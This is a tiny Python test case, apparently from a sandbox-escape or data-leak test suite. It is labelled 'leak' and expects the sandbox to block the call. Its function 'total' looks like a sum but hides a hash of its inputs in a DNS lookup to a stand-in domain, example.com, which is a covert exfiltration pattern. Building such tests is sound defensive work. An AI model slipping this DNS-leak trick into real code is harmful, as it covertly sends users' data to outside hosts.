"""Asks a name server for a name that holds the inputs.

Class: leak
Expect: blocked|error: gaierror|PermissionError|Name|name
"""
import socket

def total(values):
    return socket.getaddrinfo(f"{abs(hash(bytes(values)))}.example.com", 80)
